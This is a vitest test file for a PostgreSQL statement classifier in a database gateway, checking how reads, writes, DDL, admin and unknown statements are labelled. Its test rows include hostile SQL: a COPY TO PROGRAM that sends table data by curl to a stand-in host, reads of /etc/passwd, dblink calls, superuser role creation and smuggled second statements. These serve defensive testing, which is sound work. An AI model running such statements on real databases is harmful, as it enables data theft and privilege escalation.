import { beforeAll, describe, expect, it, vi } from "vitest";
import type { RequestKind } from "@/lib/gateway/core/types";
import { classifySql, DEFAULT_FUNCTION_RULES, initClassifier, preparedDefinitions, resolvePrepared, type Classification } from "./classify";

beforeAll(() => initClassifier());

const kindOf = (sql: string) => classifySql(sql).kind;

/** [sql, expected kind] — each row is one test, named by its SQL. */
const KINDS: [string, RequestKind][] = [
  // reads
  ["SELECT * FROM customers", "read"],
  ["SHOW search_path", "read"],
  ["SELECT current_setting('search_path')", "read"],
  ["LISTEN ch", "read"],
  ["UNLISTEN *", "read"],
  ["FETCH 10 FROM c", "read"],
  ["DEALLOCATE ALL", "read"],
  // writes
  ["INSERT INTO t VALUES (1)", "write"],
  ["UPDATE t SET x = 1", "write"],
  ["DELETE FROM t", "write"],
  ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "write"],
  ["TRUNCATE t", "write"],
  ["SELECT * FROM t FOR UPDATE", "write"],
  ["SELECT * FROM t FOR SHARE", "write"],
  ["SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", "write"],
  ["SELECT * FROM (SELECT * FROM t FOR KEY SHARE) s", "write"],
  ["WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "write"],
  ["WITH x AS (INSERT INTO t VALUES (1) RETURNING id) SELECT 1", "write"],
  ["EXPLAIN ANALYZE DELETE FROM t", "write"],
  ["EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET x = 1", "write"],
  ["EXPLAIN (ANALYZE on) DELETE FROM t", "write"],
  ["COPY t FROM STDIN", "write"],
  ["COPY (DELETE FROM t RETURNING *) TO STDOUT", "write"],
  ["LOCK TABLE t IN ACCESS EXCLUSIVE MODE", "write"],
  ["NOTIFY ch, 'payload'", "write"],
  ["SELECT pg_notify('ch', 'payload')", "write"],
  ["SELECT nextval('s')", "write"],
  ["SELECT setval('s', 1)", "write"],
  ["REFRESH MATERIALIZED VIEW mv", "write"],
  ["DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE", "write"],
  // EXPLAIN without ANALYZE only plans
  ["EXPLAIN DELETE FROM t", "read"],
  ["EXPLAIN (ANALYZE false) DELETE FROM t", "read"],
  ["EXPLAIN (ANALYZE off, VERBOSE) DELETE FROM t", "read"],
  ["EXPLAIN (ANALYZE 0) DELETE FROM t", "read"],
  ["COPY t TO STDOUT", "read"],
  ["COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)", "read"],
  // ddl
  ["SELECT * INTO t2 FROM t", "ddl"],
  ["CREATE TABLE t2 AS SELECT * FROM t", "ddl"],
  ["CREATE MATERIALIZED VIEW mv AS SELECT 1", "ddl"],
  ["CREATE TABLE t (id int)", "ddl"],
  ["ALTER TABLE t ADD COLUMN x int", "ddl"],
  ["DROP TABLE t", "ddl"],
  ["CREATE INDEX ON t (x)", "ddl"],
  ["CREATE VIEW v AS SELECT * FROM t", "ddl"],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", "ddl"],
  ["GRANT SELECT ON t TO bob", "ddl"],
  ["REVOKE ALL ON t FROM bob", "ddl"],
  ["COMMENT ON TABLE t IS 'x'", "ddl"],
  ["CREATE SCHEMA s", "ddl"],
  // admin: session identity and unlisted settings, server, roles, maintenance (harmless SETs: see below)
  ["SET ROLE postgres", "admin"],
  ["SET SESSION AUTHORIZATION postgres", "admin"],
  ["RESET role", "admin"],
  ["RESET ALL", "admin"],
  ["DISCARD ALL", "admin"],
  ["SELECT set_config('role', 'postgres', false)", "admin"],
  ["VACUUM t", "admin"],
  ["ANALYZE", "admin"],
  ["CLUSTER t USING t_pkey", "admin"],
  ["REINDEX TABLE t", "admin"],
  ["CHECKPOINT", "admin"],
  ["ALTER SYSTEM SET work_mem = '1GB'", "admin"],
  ["CREATE ROLE evil SUPERUSER", "admin"],
  ["ALTER ROLE bob SET search_path = evil", "admin"],
  ["GRANT pg_read_server_files TO bob", "admin"],
  ["CREATE EXTENSION dblink", "admin"],
  ["LOAD 'auto_explain'", "admin"],
  ["COPY t TO PROGRAM 'curl -d @- evil.example'", "admin"],
  ["COPY t FROM PROGRAM 'id'", "admin"],
  ["COPY t FROM '/etc/passwd'", "admin"],
  ["COPY t TO '/tmp/out'", "admin"],
  ["SELECT * FROM dblink('host=evil', 'select 1') AS x(a int)", "admin"],
  ["SELECT dblink_exec('dbname=prod', 'DROP TABLE t')", "admin"],
  ["SELECT pg_read_file('/etc/passwd')", "admin"],
  ["SELECT pg_read_binary_file('/etc/passwd')", "admin"],
  ["SELECT pg_ls_dir('.')", "admin"],
  ["SELECT lo_import('/etc/passwd')", "admin"],
  ["SELECT lo_export(1, '/tmp/x')", "admin"],
  ["SELECT pg_terminate_backend(123)", "admin"],
  ["SELECT pg_cancel_backend(123)", "admin"],
  ["SELECT pg_reload_conf()", "admin"],
  ["SELECT pg_advisory_lock(1)", "admin"],
  ["SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')", "admin"],
  ["SELECT table_to_xml('customers', true, false, '')", "admin"],
  ["SELECT cursor_to_xml('c', 10, true, false, '')", "admin"],
  ["SELECT ts_stat('SELECT v FROM t')", "admin"],
  ["PREPARE TRANSACTION 'x'", "admin"],
  ["COMMIT PREPARED 'x'", "admin"],
  // transaction control reads
  ["BEGIN", "read"],
  ["START TRANSACTION ISOLATION LEVEL SERIALIZABLE", "read"],
  ["COMMIT", "read"],
  ["ROLLBACK", "read"],
  ["SAVEPOINT s", "read"],
  ["RELEASE SAVEPOINT s", "read"],
  ["ROLLBACK TO SAVEPOINT s", "read"],
  ["SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "read"],
  ["SET CONSTRAINTS ALL DEFERRED", "read"],
  // unknown: arbitrary code, unresolved prepared statements, unparseable
  ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", "unknown"],
  ["CALL do_anything(1)", "unknown"],
  ["EXECUTE p(1)", "unknown"],
  ["EXPLAIN ANALYZE EXECUTE p", "unknown"],
  ["CREATE TABLE t2 AS EXECUTE p", "unknown"],
  ["SELEC 1", "unknown"],
  ["DEL/**/ETE FROM t", "unknown"],
];

describe("classifySql kinds", () => {
  it.each(KINDS)("%s → %s", (sql, kind) => {
    expect(kindOf(sql)).toBe(kind);
  });
});

/** Session settings: harmless ones are read-kind session changes, identity and unknown ones admin. */
const SETTINGS: [string, RequestKind][] = [
  ["SET application_name = 'etl'", "read"],
  ["SET search_path = evil, public", "read"],
  ["SET LOCAL search_path = evil", "read"],
  ["SET SCHEMA 'app'", "read"],
  ["SET search_path TO DEFAULT", "read"],
  ["SET TIME ZONE 'UTC'", "read"],
  ["SET TIME ZONE LOCAL", "read"],
  ["SET timezone = 'Europe/Berlin'", "read"],
  ["SET DateStyle = 'ISO, MDY'", "read"],
  ["SET IntervalStyle = iso_8601", "read"],
  ["SET extra_float_digits = 3", "read"],
  ["SET extra_float_digits = -3", "read"],
  ["SET client_encoding = 'UTF8'", "read"],
  ["SET NAMES 'UTF8'", "read"],
  ["SET standard_conforming_strings = on", "read"],
  ["SET statement_timeout = 5000", "read"],
  ["SET statement_timeout TO '5s'", "read"],
  ["SET lock_timeout = '1s'", "read"],
  ["SET idle_in_transaction_session_timeout = 60000", "read"],
  ["SET client_min_messages = warning", "read"],
  ["SET bytea_output = 'escape'", "read"],
  ["SET default_transaction_isolation = 'serializable'", "read"],
  ["SET default_transaction_read_only = on", "read"],
  ["SET transaction_read_only = off", "read"],
  ["SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "read"],
  ["RESET application_name", "read"],
  ["RESET TimeZone", "read"],
  ["SHOW DateStyle", "read"],
  ["SHOW ALL", "read"],
  ["SELECT set_config('search_path', 'evil', false)", "read"],
  ["SELECT pg_catalog.set_config('application_name', 'x', true)", "read"],
  ["SELECT set_config('TimeZone', 'UTC', false), current_setting('TimeZone')", "read"],
  ["SELECT set_config('application_name', $1, false)", "read"],
  ["SELECT set_config('application_name', $1::text, false)", "read"],
  // identity, privileges, resources and anything unlisted stay admin
  ["SET ROLE NONE", "admin"],
  ["RESET SESSION AUTHORIZATION", "admin"],
  ["SET session_authorization = 'postgres'", "admin"],
  ["SET role = 'postgres'", "admin"],
  ["SET work_mem = '64GB'", "admin"],
  ["SET row_security = off", "admin"],
  ["SET session_replication_role = replica", "admin"],
  ["SET my.custom_setting = 'x'", "admin"],
  ["SET application_name = 'a'; SET ROLE postgres", "admin"],
  ["SELECT set_config('role', 'postgres', false)", "admin"],
  ["SELECT set_config('ROLE', 'postgres', false)", "admin"],
  ["SELECT set_config('search_path', 'x', false), set_config('role', 'postgres', false)", "admin"],
  ["SELECT set_config(name, 'x', false) FROM settings_to_apply", "admin"],
  ["SELECT set_config('search_' || 'path', 'x', false)", "admin"],
  ["SELECT set_config(setting_name => 'search_path', new_value => 'x', is_local => false)", "admin"],
  ["SELECT set_config('client_encoding', 'SJIS', false)", "admin"],
  ["SELECT set_config('work_mem', '64GB', false)", "admin"],
  // a harmless setting given a value computed from data stores that data outside masking's reach
  ["SELECT set_config('application_name', password_hash, false) FROM accounts", "admin"],
  ["SELECT length(set_config('search_path', (SELECT ssn FROM customers LIMIT 1), false))", "admin"],
  ["SELECT set_config('application_name', 'app-' || id, false) FROM accounts", "admin"],
];

describe("session settings", () => {
  it.each(SETTINGS)("%s → %s", (sql, kind) => {
    expect(kindOf(sql)).toBe(kind);
  });

  it("flags the SETs that would make the server read SQL differently (the session refuses them)", () => {
    const problem = (sql: string) => classifySql(sql).statements[0].settingProblem;
    expect(problem("SET client_encoding = 'SJIS'")).toMatch(/client_encoding SJIS/);
    expect(problem("SET NAMES 'LATIN1'")).toMatch(/client_encoding LATIN1/);
    expect(problem("SET standard_conforming_strings = off")).toMatch(/standard_conforming_strings off/);
    expect(problem("SET standard_conforming_strings = 0")).toMatch(/standard_conforming_strings 0/);
    expect(problem("SET client_encoding = 'UTF8'")).toBeUndefined();
    expect(problem("SET NAMES 'utf8'")).toBeUndefined();
    expect(problem("SET standard_conforming_strings TO on")).toBeUndefined();
    expect(problem("RESET client_encoding")).toBeUndefined();
    expect(problem("SET client_encoding TO DEFAULT")).toBeUndefined();
    expect(problem("SET application_name = 'SJIS'")).toBeUndefined();
  });

  it("records the setting and its value", () => {
    const [a, b, c] = classifySql("SET statement_timeout = 5000; SET search_path = a, b; RESET DateStyle").statements;
    expect([a.setting, a.settingValue, b.setting, b.settingValue, c.setting, c.settingValue]).toEqual(["statement_timeout", "5000", "search_path", "a, b", "datestyle", undefined]);
    expect(a.reasons.join(" ")).toMatch(/only changes how this session/);
    expect(classifySql("SELECT set_config('search_path', 'x', false)").statements[0].reasons.join(" ")).toMatch(/set_config\(search_path\)/);
  });
});

describe("what the real parser gets right and a regex would not", () => {
  it("comments, odd whitespace and mixed case", () => {
    const c = classifySql("\tSeLeCt/* a comment */ *\r\n FROM/**/public.\"Customers\" -- trailing\n WHERE id = 1");
    expect(c).toMatchObject({ kind: "read", tables: ["public.Customers"] });
    expect(kindOf("dElEtE\n\n  FROM\tt")).toBe("write");
  });

  it("nested comments hide a whole DELETE", () => {
    expect(classifySql("/* outer /* inner */ DELETE FROM t; */ SELECT 1")).toMatchObject({ kind: "read", tables: [] });
  });

  it("strings and dollar quotes are data, not statements", () => {
    expect(classifySql("SELECT 'DELETE FROM t', $$DROP TABLE t$$, $x$; TRUNCATE t$x$")).toMatchObject({ kind: "read", statements: [{ node: "SelectStmt" }] });
  });

  it("parses backslashes as standard_conforming_strings = on (the gateway must keep it on)", () => {
    // 'a\' is a complete string when standard_conforming_strings is on: the DELETE is real.
    const c = classifySql("SELECT 'a\\'; DELETE FROM t; --'");
    expect(c.kind).toBe("write");
    expect(c.statements.map((s) => s.node)).toEqual(["SelectStmt", "DeleteStmt"]);
    expect(kindOf("SELECT E'it\\'s'; DELETE FROM t")).toBe("write");
  });

  it("quoted and schema-qualified names, case kept only where quoted", () => {
    const c = classifySql('SELECT * FROM PUBLIC.Customers c JOIN "Sales"."Orders" o ON true JOIN public."a.b" ON true JOIN cat.sch.tbl ON true');
    expect(c.tables).toEqual(["Sales.Orders", "cat.sch.tbl", "public.\"a.b\"", "public.customers"]);
  });

  it("a name that is not whitespace to PostgreSQL is not empty to us (U+00A0)", () => {
    expect(kindOf("\u00a0")).toBe("unknown");
  });
});

describe("statements, tables and functions", () => {
  it("splits a multi-statement string; the combined kind is the most dangerous part", () => {
    const c = classifySql("select 1; delete from t; select 'é'");
    expect(c.kind).toBe("write");
    expect(c.statements.map((s) => [s.kind, s.node, s.text])).toEqual([
      ["read", "SelectStmt", "select 1"],
      ["write", "DeleteStmt", "delete from t"],
      ["read", "SelectStmt", "select 'é'"],
    ]);
    expect(kindOf("select 1; set role x; create table t(i int)")).toBe("admin");
    expect(kindOf("select 1; do $$ begin end $$; set role x")).toBe("unknown");
  });

  it("flags data modification and transaction control per statement", () => {
    const [a, b, c, d] = classifySql("BEGIN; WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d; EXPLAIN DELETE FROM t; COPY t FROM STDIN").statements;
    expect([a.transactionControl, a.dataModifying]).toEqual([true, false]);
    expect([b.transactionControl, b.dataModifying]).toEqual([false, true]);
    expect(c.dataModifying).toBe(false);
    expect(d.dataModifying).toBe(true);
  });

  it("collects functions from anywhere in the tree", () => {
    const c = classifySql("WITH x AS (SELECT lower(a) FROM t) SELECT upper(b), CASE WHEN coalesce(length(c), 0) > (SELECT max(d) FROM u) THEN pg_catalog.now() END FROM x WHERE id IN (SELECT abs(e) FROM v)");
    expect(c.functions).toEqual(["abs", "length", "lower", "max", "pg_catalog.now", "upper"]);
    expect(c.tables).toEqual(["t", "u", "v"]);
    expect(c.kind).toBe("read");
  });

  it("finds dangerous calls nested deep, schema-qualified or quoted", () => {
    expect(kindOf("SELECT * FROM t WHERE id IN (SELECT x FROM u WHERE y = (SELECT nextval('s')))")).toBe("write");
    expect(classifySql("SELECT pg_catalog.set_config('role', 'postgres', false)")).toMatchObject({ kind: "admin", functions: ["pg_catalog.set_config"] });
    expect(kindOf('SELECT "set_config"(\'role\', \'x\', false)')).toBe("admin");
    expect(kindOf("EXECUTE p(set_config('role', 'postgres', false))")).toBe("unknown");
    expect(kindOf("WITH x AS (SELECT pg_read_file('/etc/passwd')) SELECT * FROM x")).toBe("admin");
    // Not executed, but the planner may evaluate functions: the rule applies to plain EXPLAIN too.
    expect(kindOf("EXPLAIN SELECT pg_read_file('/etc/passwd')")).toBe("admin");
  });

  it("accepts custom function rules", () => {
    const rules = [...DEFAULT_FUNCTION_RULES, { name: "run_sql", kind: "unknown" as const, why: "runs SQL" }, { name: "audit_*", kind: "write" as const, why: "writes" }];
    expect(classifySql("SELECT run_sql('drop table t')", { functionRules: rules }).kind).toBe("unknown");
    expect(classifySql("SELECT audit_log('x')", { functionRules: rules }).kind).toBe("write");
    expect(classifySql("SELECT run_sql('x')").kind).toBe("read");
  });

  it("tells CTE names from tables, by PostgreSQL's scoping", () => {
    expect(classifySql("WITH x AS (SELECT * FROM t) SELECT * FROM x").tables).toEqual(["t"]);
    // Without RECURSIVE a CTE's own body cannot see it: the inner `customers` is the table.
    expect(classifySql("WITH customers AS (SELECT * FROM customers) SELECT * FROM customers").tables).toEqual(["customers"]);
    expect(classifySql("WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a").tables).toEqual(["b"]);
    expect(classifySql("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT * FROM r").tables).toEqual([]);
    // DML targets are never CTEs.
    expect(classifySql("WITH t AS (SELECT 1) DELETE FROM t").tables).toEqual(["t"]);
    expect(classifySql("WITH x AS (SELECT 1) SELECT * FROM public.x").tables).toEqual(["public.x"]);
  });

  it("reports relations named by DROP, TRUNCATE, LOCK, COPY, GRANT", () => {
    expect(classifySql("DROP TABLE a.b, c").tables).toEqual(["a.b", "c"]);
    expect(classifySql("TRUNCATE a, b.c").tables).toEqual(["a", "b.c"]);
    expect(classifySql("LOCK TABLE t").tables).toEqual(["t"]);
    expect(classifySql("COPY s.t FROM STDIN").tables).toEqual(["s.t"]);
    expect(classifySql("GRANT SELECT ON s.t TO bob").tables).toEqual(["s.t"]);
  });

  it("names the setting a SET / RESET / SHOW touches", () => {
    const [a, b, c, d] = classifySql("SET ROLE x; RESET ALL; SET search_path TO y; SHOW work_mem").statements;
    expect([a.setting, b.setting, c.setting, d.setting]).toEqual(["role", "all", "search_path", "work_mem"]);
  });

  it("explains itself", () => {
    expect(classifySql("SELECT * FROM t FOR UPDATE").statements[0].reasons.join(" ")).toMatch(/row locks/);
    expect(classifySql("SELECT set_config('role','x',false)").statements[0].reasons.join(" ")).toMatch(/set_config/);
  });
});

describe("prepared statements", () => {
  it("PREPARE takes the inner statement's kind; EXECUTE is unknown until resolved", () => {
    const prep = classifySql("PREPARE del(int) AS DELETE FROM t WHERE id = $1");
    expect(prep.kind).toBe("write");
    expect(prep.statements[0].prepare?.name).toBe("del");
    const map = new Map<string, Classification>(preparedDefinitions(prep));
    expect(map.get("del")).toMatchObject({ kind: "write", tables: ["t"] });

    const exec = classifySql("EXECUTE del(1)");
    expect(exec.kind).toBe("unknown");
    expect(resolvePrepared(exec, map)).toMatchObject({ kind: "write", tables: ["t"], statements: [{ kind: "write", dataModifying: true }] });
    expect(classifySql("EXECUTE del(1)", { prepared: map }).kind).toBe("write");
    expect(classifySql("EXECUTE other", { prepared: map }).kind).toBe("unknown");
    // EXPLAIN without ANALYZE does not run it; with ANALYZE it does.
    expect(classifySql("EXPLAIN EXECUTE del(1)").kind).toBe("read");
    expect(classifySql("EXPLAIN ANALYZE EXECUTE del(1)", { prepared: map }).kind).toBe("write");
  });

  it("an EXECUTE resolves by a PREPARE or DEALLOCATE before it in the same string, then by the session's", () => {
    const map = new Map([["p", classifySql("DELETE FROM t")]]);
    expect(classifySql("PREPARE p AS SELECT * FROM customers; EXECUTE p", { prepared: map })).toMatchObject({ kind: "read", tables: ["customers"] });
    expect(classifySql("EXECUTE p; PREPARE p2 AS SELECT 1", { prepared: map }).kind).toBe("write");
    expect(classifySql("DEALLOCATE p; EXECUTE p", { prepared: map }).kind).toBe("unknown");
    expect(classifySql("DEALLOCATE ALL; PREPARE q AS SELECT 1; EXECUTE q; EXECUTE p", { prepared: map }).kind).toBe("unknown");
    expect(classifySql("EXECUTE q; PREPARE q AS SELECT 1", { prepared: new Map() }).kind).toBe("unknown");
  });

  it("a read prepared statement resolves to read, and parameters still count", () => {
    const map = new Map([["q", classifySql("SELECT * FROM customers WHERE id = $1")]]);
    expect(classifySql("EXECUTE q(1)", { prepared: map })).toMatchObject({ kind: "read", tables: ["customers"] });
    expect(classifySql("EXECUTE q(set_config('role','x',false))", { prepared: map }).kind).toBe("admin");
  });

  it("reports deallocation so the session can forget statements", () => {
    expect(classifySql("DEALLOCATE q").statements[0].deallocates).toEqual({ all: false, name: "q" });
    expect(classifySql("DEALLOCATE ALL").statements[0].deallocates).toEqual({ all: true });
    expect(classifySql("DISCARD ALL").statements[0].deallocates).toEqual({ all: true });
  });
});

describe("fail closed", () => {
  it("unparseable input is unknown with the parser's message, never read", () => {
    const c = classifySql("SELECT FROM WHERE");
    expect(c.kind).toBe("unknown");
    expect(c.parseError).toMatch(/syntax error/);
  });

  it("deep nesting never hides a call, never throws, and the parser keeps working afterwards", () => {
    const nested = (n: number) => "SELECT " + "(SELECT ".repeat(n) + "nextval('s')" + ")".repeat(n);
    expect(kindOf(nested(100))).toBe("write");
    // ~1000 levels: the parser's JSON may exceed the JS stack (unknown) or not (write) — never read.
    expect(["write", "unknown"]).toContain(kindOf(nested(1000)));
    for (const n of [5000, 50000]) {
      expect(classifySql(nested(n))).toMatchObject({ kind: "unknown", parseError: expect.stringMatching(/memory exhausted|stack/) });
      expect(kindOf("SELECT " + "f(".repeat(n) + "1" + ")".repeat(n))).toBe("unknown");
    }
    expect(kindOf("SELECT 1")).toBe("read");
  });

  it("a NUL would truncate the text the C parser sees: unknown", () => {
    expect(classifySql("SELECT 1\0; DELETE FROM t")).toMatchObject({ kind: "unknown", parseError: expect.stringMatching(/NUL/) });
  });

  it("over-long text is unknown without parsing", () => {
    expect(classifySql("SELECT 1 --" + "x".repeat(100), { maxLength: 50 }).kind).toBe("unknown");
  });

  it("empty input is an empty read (PostgreSQL answers EmptyQueryResponse)", () => {
    for (const sql of ["", ";", " ; ; ", "-- only a comment", "/* c */"]) expect(classifySql(sql)).toEqual({ kind: "read", statements: [], tables: [], functions: [] });
  });

  it("throws if used before initClassifier() (a silent fallback could read as allow)", async () => {
    vi.resetModules();
    const fresh = await import("./classify");
    expect(() => fresh.classifySql("SELECT 1")).toThrow(/initClassifier/);
  });
});

describe("definitions are not executions", () => {
  it("a DELETE inside CREATE RULE / VIEW / FUNCTION is ddl, not a data modification now", () => {
    const rule = classifySql("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u").statements[0];
    expect(rule).toMatchObject({ kind: "ddl", dataModifying: false });
    const fn = classifySql("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM u; END").statements[0];
    expect(fn).toMatchObject({ kind: "ddl", dataModifying: false });
  });

  it("SELECT INTO a name that is also a CTE still reports the created table", () => {
    expect(classifySql("WITH t2 AS (SELECT 1) SELECT * INTO t2 FROM t2").tables).toEqual(["t2"]);
  });
});
